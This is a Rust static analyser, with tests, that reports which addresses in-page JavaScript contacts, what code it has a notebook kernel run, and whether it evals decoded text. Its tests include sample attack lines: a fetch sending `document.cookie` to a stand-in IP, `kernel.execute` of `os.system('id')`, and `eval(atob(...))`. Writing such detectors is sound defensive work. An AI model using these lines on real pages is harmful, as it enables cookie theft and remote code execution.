//! JavaScript in pages: [`reach`] says which addresses a script hands over and what it runs elsewhere.
//!
//! The tokens are those of ECMA-262 (15th edition, chapter 12). No tree is made of them: what counts is which text
//! stands in the arguments of which call, and adjacent texts that are joined by `+` are one.

use std::collections::BTreeMap;

/// What a script reaches.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Reach {
    /// Addresses that it fetches, loads or sends to, in order, each once.
    pub addresses: Vec<String>,
    /// Code that it has the kernel of a notebook run; empty where the code is not written out.
    pub kernel: Vec<String>,
    /// Whether it runs code that it first decodes.
    pub decodes: bool,
}

/// The longest script that is read, in bytes.
pub const LONGEST: usize = 8 << 20;

/// How many addresses and pieces of code are kept, and how many texts by their names.
const KEPT: usize = 64;
const NAMED: usize = 4096;

/// How deep in one another calls are followed.
const DEEPEST: usize = 256;

/// Functions and methods that are given an address to fetch, to load or to send to.
const ASKS: [&str; 19] = [
    "fetch",
    "open",
    "sendBeacon",
    "WebSocket",
    "EventSource",
    "Worker",
    "SharedWorker",
    "importScripts",
    "import",
    "require",
    "get",
    "post",
    "ajax",
    "getJSON",
    "getScript",
    "load",
    "request",
    "axios",
    "setAttribute",
];

/// Properties that load what they are set to.
const LOADS: [&str; 3] = ["src", "location", "srcset"];

/// Functions that run the text they are given.
const RUNS: [&str; 4] = ["eval", "Function", "setTimeout", "setInterval"];

/// Functions that make text of other text.
const DECODES: [&str; 4] = ["atob", "unescape", "fromCharCode", "fromCodePoint"];

/// What `script` reaches; of one over [`LONGEST`], what the part up to there does.
pub fn reach(script: &str) -> Reach {
    let script = script.get(..script.floor_char_boundary(LONGEST)).unwrap_or_default();
    let mut reader = Reader::default();
    let mut tokens = Tokens { rest: script, divides: false };
    while let Some(token) = tokens.next() {
        reader.token(token);
    }
    reader.text_ends();
    reader.found
}

/// One token; comments, numbers and regular expressions are not given out.
#[derive(Debug)]
enum Token<'t> {
    Name(&'t str),
    Text(String),
    Mark(char),
}

struct Tokens<'t> {
    rest: &'t str,
    /// Whether a `/` here would divide: behind a value.
    divides: bool,
}

impl<'t> Tokens<'t> {
    fn take(&mut self, bytes: usize) -> &'t str {
        let (taken, rest) = self.rest.split_at_checked(bytes).unwrap_or((self.rest, ""));
        self.rest = rest;
        taken
    }

    /// Goes behind the next `end`, or to the end of the script.
    fn skip_behind(&mut self, end: &str) {
        let at = self.rest.find(end).map_or(self.rest.len(), |at| at.saturating_add(end.len()));
        self.take(at);
    }

    fn next(&mut self) -> Option<Token<'t>> {
        loop {
            self.rest = self.rest.trim_start();
            let first = self.rest.chars().next()?;
            if self.rest.starts_with("//") {
                self.skip_behind("\n");
            } else if self.rest.starts_with("/*") {
                self.skip_behind("*/");
            } else if first == '/' && !self.divides {
                self.expression();
                self.divides = true;
            } else if matches!(first, '"' | '\'' | '`') {
                self.take(1);
                self.divides = true;
                return Some(Token::Text(self.text(first)));
            } else if is_of_name(first) {
                let end = self.rest.find(|one| !is_of_name(one)).unwrap_or(self.rest.len());
                let name = self.take(end);
                self.divides =
                    !matches!(name, "return" | "typeof" | "case" | "in" | "of" | "void" | "delete");
                return Some(Token::Name(name));
            } else {
                self.take(first.len_utf8());
                self.divides = matches!(first, ')' | ']' | '}');
                return Some(Token::Mark(first));
            }
        }
    }

    /// Goes behind a regular expression; one that its line does not end is none.
    fn expression(&mut self) {
        self.take(1);
        let (mut escaped, mut class) = (false, false);
        let ends = self.rest.find(|one| {
            let ends = one == '\n' || (one == '/' && !escaped && !class);
            (escaped, class) = match one {
                _ if escaped => (false, class),
                '\\' => (true, class),
                '[' => (false, true),
                ']' => (false, false),
                _ => (false, class),
            };
            ends
        });
        self.take(ends.map_or(self.rest.len(), |at| at.saturating_add(1)));
    }

    /// The text up to `quote`, without its escapes. What a template computes is left out.
    fn text(&mut self, quote: char) -> String {
        let mut text = String::new();
        while let Some(one) = self.rest.chars().next() {
            self.take(one.len_utf8());
            match one {
                '\\' => self.escape(&mut text),
                '$' if quote == '`' && self.rest.starts_with('{') => self.skip_behind("}"),
                '\n' if quote != '`' => break,
                one if one == quote => break,
                one => text.push(one),
            }
        }
        text
    }

    fn escape(&mut self, text: &mut String) {
        let Some(kind) = self.rest.chars().next() else { return };
        self.take(kind.len_utf8());
        let digits = match kind {
            'x' => self.take(2),
            'u' if self.rest.starts_with('{') => {
                let end = self.rest.find('}').map_or(0, |at| at.saturating_add(1));
                self.take(end).trim_matches(['{', '}'])
            }
            'u' => self.take(4),
            'n' => return text.push('\n'),
            't' => return text.push('\t'),
            '\n' => return,
            other => return text.push(other),
        };
        text.extend(u32::from_str_radix(digits, 16).ok().and_then(char::from_u32));
    }
}

fn is_of_name(one: char) -> bool {
    one.is_alphanumeric() || matches!(one, '_' | '$' | '\u{200c}' | '\u{200d}')
}

/// What was read of a script so far.
#[derive(Default)]
struct Reader {
    found: Reach,
    /// The names in front of the place that is read: `kernel`, `execute` in `kernel.execute(`.
    names: Vec<String>,
    /// What is called by each `(` that is open, and the braces between.
    open: Vec<Open>,
    /// The last mark, when it was the last token.
    last: Option<char>,
    /// Texts that are joined by `+`, and the property they are set to.
    text: Option<(String, String)>,
    /// Whether the last token was a `+` behind a text.
    joins: bool,
    /// Whether the last tokens were a name that is joined to a text; it stands there as `_`.
    hole: bool,
    /// The property that is set by the `=` or `:` in front.
    set: String,
    /// The texts that names were set to last.
    texts: BTreeMap<String, String>,
}

/// A parenthesis or brace that is open.
enum Open {
    Call(Call),
    /// Braces around properties: what is in them goes to the call around.
    Properties,
    /// Braces around statements: what is in them does not.
    Statements,
}

#[derive(Default)]
struct Call {
    name: String,
    of: String,
    /// Whether a text was among its arguments.
    given: bool,
}

impl Call {
    /// Whether an address among its arguments is fetched, loaded or sent to.
    fn asks(&self) -> bool {
        let goes = self.of == "location" && matches!(self.name.as_str(), "assign" | "replace");
        goes || ASKS.contains(&self.name.as_str())
    }

    /// Whether what follows is the code that the kernel runs.
    fn is_for_kernel(&self) -> bool {
        self.of == "kernel" && self.name == "execute" && !self.given
    }
}

impl Reader {
    /// The calls whose arguments are read, the innermost first.
    fn calls(&self) -> impl Iterator<Item = &Call> {
        let near = self.open.iter().rev().take_while(|open| !matches!(open, Open::Statements));
        near.filter_map(|open| match open {
            Open::Call(call) => Some(call),
            _ => None,
        })
    }

    /// The call whose arguments are read.
    fn call(&mut self) -> Option<&mut Call> {
        match self.open.last_mut() {
            Some(Open::Call(call)) => Some(call),
            _ => None,
        }
    }

    fn token(&mut self, token: Token<'_>) {
        let last = match &token {
            Token::Mark(mark) => Some(*mark),
            _ => None,
        };
        self.read(token);
        self.last = last;
    }

    fn read(&mut self, token: Token<'_>) {
        match token {
            Token::Text(more) => {
                match &mut self.text {
                    Some((text, _)) if self.joins => text.push_str(&more),
                    _ => {
                        self.text_ends();
                        self.text = Some((more, std::mem::take(&mut self.set)));
                    }
                }
                self.joins = false;
                self.names.clear();
            }
            Token::Mark('+') if self.text.is_some() => (self.joins, self.hole) = (true, false),
            Token::Mark('.') if self.hole => {}
            Token::Name(name) => self.name(name),
            Token::Mark(mark) => self.mark(mark),
        }
    }

    fn name(&mut self, name: &str) {
        let runs = self.calls().any(|call| RUNS.contains(&call.name.as_str()));
        self.found.decodes |= runs && DECODES.contains(&name);
        match &mut self.text {
            Some((text, _)) if self.joins => {
                text.push('_');
                (self.joins, self.hole) = (false, true);
                return;
            }
            Some(_) if self.hole => return,
            _ => self.text_ends(),
        }
        let first = self.names.is_empty();
        if let Some(call) = self.call()
            && call.is_for_kernel()
            && first
        {
            call.given = true;
            let code = self.texts.get(name).cloned().unwrap_or_default();
            self.runs_in_kernel(code);
        }
        if self.names.len() > 2 {
            self.names.remove(0);
        }
        self.names.push(name.to_owned());
    }

    fn mark(&mut self, mark: char) {
        // `"src": "https://..."` names a property too.
        if let (':', Some((text, _))) = (mark, &self.text) {
            self.names = vec![text.clone()];
        }
        self.text_ends();
        self.set.clear();
        match mark {
            '.' | '?' => return,
            '(' => {
                let name = self.names.pop().unwrap_or_default();
                let call = Call { name, of: self.names.pop().unwrap_or_default(), given: false };
                self.opens(Open::Call(call));
            }
            // Behind `)` and `=>` statements begin.
            '{' if matches!(self.last, Some(')' | '>')) => self.opens(Open::Statements),
            '{' => self.opens(Open::Properties),
            '}' => self.closes(|open| !matches!(open, Open::Call(_))),
            ')' => self.closes(|open| matches!(open, Open::Call(_))),
            ';' => {
                let body = self.open.iter().rposition(|open| matches!(open, Open::Statements));
                self.open.truncate(body.map_or(0, |at| at.saturating_add(1)));
            }
            '=' | ':' => {
                self.set = self.names.pop().unwrap_or_default();
                // A link waits to be clicked; the address of the page does not.
                if self.set == "href" && self.names.last().is_some_and(|of| of == "location") {
                    self.set = "location".to_owned();
                }
            }
            _ => {}
        }
        self.names.clear();
    }

    fn opens(&mut self, open: Open) {
        if self.open.len() < DEEPEST {
            self.open.push(open);
        }
    }

    /// Closes the innermost that `is` what the mark closes, and what is open in it.
    fn closes(&mut self, is: fn(&Open) -> bool) {
        let Some(at) = self.open.iter().rposition(is) else { return };
        if let Some(Open::Call(call)) = self.open.get(at)
            && call.is_for_kernel()
        {
            self.runs_in_kernel(String::new());
        }
        self.open.truncate(at);
    }

    fn runs_in_kernel(&mut self, code: String) {
        if self.found.kernel.len() < KEPT {
            self.found.kernel.push(code);
        }
    }

    /// The text that was read is whole: where it stands says what becomes of it.
    fn text_ends(&mut self) {
        (self.joins, self.hole) = (false, false);
        let Some((text, set)) = self.text.take() else { return };
        if let Some(call) = self.call() {
            let for_kernel = call.is_for_kernel();
            call.given = true;
            if for_kernel {
                return self.runs_in_kernel(text);
            }
        }
        if !set.is_empty() && self.texts.len() < NAMED {
            self.texts.insert(set.clone(), text.clone());
        }
        let asked = self.calls().take(2).any(Call::asks);
        let address = ["http://", "https://", "ws://", "wss://", "//"]
            .iter()
            .any(|scheme| text.starts_with(scheme));
        let kept = self.found.addresses.len() < KEPT && !self.found.addresses.contains(&text);
        if address && kept && (asked || LOADS.contains(&set.as_str())) {
            self.found.addresses.push(text);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn addresses(script: &str) -> Vec<String> {
        reach(script).addresses
    }

    #[test]
    fn addresses_that_are_asked_are_told() {
        for script in [
            "fetch('http://192.0.2.9/x?')",
            "fetch('ht' + 'tp://192.0.2.9/x?')",
            "new Image().src = \"http://192.0.2.9/x?\"",
            "x.open('POST', 'http://192.0.2.9/x?', true)",
            "$.ajax({url: `http://192.0.2.9/x?${name}`})",
            "window.location.href = 'http://192.0.2.9/x?'",
            "location.replace('http://192.0.2.9/x?')",
            "navigator.sendBeacon('\\x68ttp:\\u002f/192.0.2.9/x?', d)",
            "if (a / b / c) { fetch('http://192.0.2.9/x?') }",
            "s = /['\"]/; fetch('http://192.0.2.9/x?')",
            "require(['http://192.0.2.9/x?'], f)",
        ] {
            assert_eq!(addresses(script), ["http://192.0.2.9/x?"], "{script}");
        }
        assert_eq!(
            addresses("fetch('http://192.0.2.9/x?' + document.cookie)"),
            ["http://192.0.2.9/x?_"]
        );
        assert_eq!(addresses("s.src='//cdn.example/x.js'"), ["//cdn.example/x.js"]);
    }

    #[test]
    fn addresses_in_comments_and_names_are_not() {
        for script in [
            "// fetch('http://192.0.2.9/x')",
            "/* fetch('http://192.0.2.9/x') */ f()",
            "document.createElementNS('http://www.w3.org/2000/svg', 'g')",
            "var license = 'https://opensource.example/MIT';",
            "link.href = 'https://maps.example/';",
            "p = p.replace('https://maps.example/', '')",
            "load(function () { var home = ['https://maps.example/']; })",
            "var styles = {map: {url: 'https://tiles.example/'}};",
            "s = /fetch('http:..192.0.2.9')/",
        ] {
            assert_eq!(reach(script), Reach::default(), "{script}");
        }
    }

    #[test]
    fn code_for_the_kernel_is_told() {
        let found =
            reach("Jupyter.notebook.kernel.execute('import os; ' + \"os.system('id')\", {})");
        assert_eq!(found.kernel, ["import os; os.system('id')"]);
        assert_eq!(reach("kernel.execute(code)").kernel, [""]);
        assert_eq!(reach("const code = 'x = 1'; this.kernel.execute(code, {})").kernel, ["x = 1"]);
        assert_eq!(reach("c = 'f(\"' + a.id + '\")'; kernel.execute(c)").kernel, ["f(\"_\")"]);
        assert_eq!(reach("kernel.comm_manager.register_target('x', f)"), Reach::default());
    }

    #[test]
    fn code_that_is_decoded_first_is_told() {
        assert!(reach("eval(atob('ZmV0Y2goKQ=='))").decodes);
        assert!(reach("new Function(String.fromCharCode(97))()").decodes);
        assert!(!reach("var image = atob(data); eval('x')").decodes);
    }

    #[test]
    fn anything_is_survived() {
        for script in ["", "'", "`${", "/", "\\", "f(((((", "))))", "'\\u{", "'\\x", "/[", "ſ\u{0}"]
        {
            reach(script);
        }
        reach(&"f(".repeat(10_000));
    }
}
